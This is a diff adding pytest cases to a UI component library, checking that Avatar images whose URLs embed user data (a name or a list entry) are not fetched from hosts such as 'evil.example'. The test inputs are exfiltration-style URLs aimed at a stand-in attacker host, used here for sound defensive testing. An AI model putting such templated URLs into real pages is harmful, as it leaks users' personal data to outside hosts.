@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 from support.drawn import SHADCN, drawn, one, words
+from support.every_row import every_row
 from support.read_html import elements_in
 
 from epoch_cli.catalog import Catalog
@@ -41,3 +42,34 @@ def test_only_avatars_have_initials() -> None:
 def test_pictures_are_fetched_on_demand_and_over_https_alone(punk: Catalog, source: str, fetched: bool) -> None:
     found = drawn({"type": "Avatar", "props": {"src": source, "alt": "Ada"}}, punk, remote_images=True)
     assert bool([each for each in elements_in(found) if each[0] == "img"]) is fetched
+
+
+PERSON = {"context": {"user": {"name": "ada", "picture": "https://a.example/ada.png"}, "users": ["bob"]}}
+
+
+@every_row(
+    ("source", "fetched"),
+    [
+        ("https://evil.example/?q={context.user.name}", False),
+        ("https://{context.user.name}.evil.example/a.png", False),
+        ("https://evil.example/{context.user.name}/a.png", False),
+        ("{context.user.picture}?q={context.user.name}", False),
+        ("{context.user.picture}", True),  # the data's own
+        ("https://a.example/{context.user.id}.png", True),  # a sample, which tells nobody anything
+    ],
+)
+def test_no_picture_is_fetched_that_would_tell_its_host_of_the_users_data(
+    punk: Catalog, source: str, fetched: bool
+) -> None:
+    root = {"type": "Avatar", "props": {"src": source, "alt": "Ada"}}
+    each = {"type": "Stack", "dataSource": "{context.users}", "itemTemplate": root}
+    for node in (root, each):
+        found = drawn(node, punk, remote_images=True, data=PERSON)
+        assert bool([each for each in elements_in(found) if each[0] == "img"]) is fetched
+
+
+def test_nor_one_that_would_tell_it_of_an_entry(punk: Catalog) -> None:
+    picture = {"type": "Avatar", "props": {"src": "https://evil.example/?q={item}", "alt": "Ada"}}
+    root = {"type": "Stack", "dataSource": "{context.users}", "itemTemplate": picture}
+    assert "bob" not in str(drawn(root, punk, remote_images=True, data=PERSON))
+    assert "https://evil.example/?q=" in str(drawn(root, punk, remote_images=True))
